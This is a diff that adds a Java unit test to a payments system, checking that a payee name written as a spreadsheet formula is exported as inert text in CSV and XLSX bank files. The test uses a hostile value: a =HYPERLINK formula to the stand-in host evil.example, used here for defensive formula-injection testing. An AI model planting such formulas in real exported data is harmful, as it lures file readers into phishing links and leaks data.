@@ -237,6 +237,41 @@ class FundPaymentsTest {
     }
 
     @Test
+    void aPayeeNamedLikeAFormulaIsTextInTheBankFilesAndTheBatchStillReconciles() throws Exception {
+        if (jdbc.sql("select count(*) from bf_payment where status = 'QUEUED'").query(Integer.class).single() > 0) {
+            fx.batch();
+        }
+        long household = fx.pairedHousehold(50_000);
+        // a name kept from before names were checked on input: the file must not turn it into a live formula
+        String formula = "=HYPERLINK(\"http://evil.example/?a=1\",\"点击核对\")";
+        jdbc.sql("update bf_household set head_name = ? where id = ?").params(formula, household).update();
+        String release = queued(household, "1234");
+        long batch = fx.batch();
+        ApiClient api = new ApiClient(port);
+
+        HttpResponse<String> csv = api.get("district", "/api/funds/batches/" + batch + "/file.csv");
+        assertThat(csv.statusCode()).isEqualTo(200);
+        String account = jdbc.sql("select bank_account from bf_household where id = ?").param(household)
+                .query(String.class).single();
+        assertThat(csv.body().lines().skip(1)).containsExactly("\"'=HYPERLINK(\"\"http://evil.example/?a=1\"\",\"\"点击核对\"\")\","
+                + account + ",1234.00," + fx.reference(release));
+        org.bangfu.shared.TableFile read = org.bangfu.shared.TableFile.read(csv.body().getBytes(StandardCharsets.UTF_8));
+        assertThat(read.lines().get(0).cells()).containsExactly("'" + formula, account, "1234.00", fx.reference(release));
+
+        byte[] xlsx = fx.as.call("district", () -> payments.batchFile(batch, FundPayments.FileFormat.XLSX));
+        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
+            var payee = book.getSheetAt(0).getRow(1).getCell(0);
+            assertThat(payee.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+            assertThat(payee.getStringCellValue()).isEqualTo(formula);
+        }
+
+        // the bank answers with the references of the file: the payment settles as always
+        Reconciliation settled = fx.reconcile(batch, Map.of(fx.reference(release), "PAID"));
+        assertThat(settled.paid()).isEqualTo(1);
+        assertThat(settled.paidAmount().toString()).isEqualTo("1234.00");
+    }
+
+    @Test
     void aConfirmationWithMixedResultsSettlesEachPaymentOnceAndABadFileChangesNothing() {
         // payments queued before (the demo's) go into a batch of their own
         if (jdbc.sql("select count(*) from bf_payment where status = 'QUEUED'").query(Integer.class).single() > 0) {
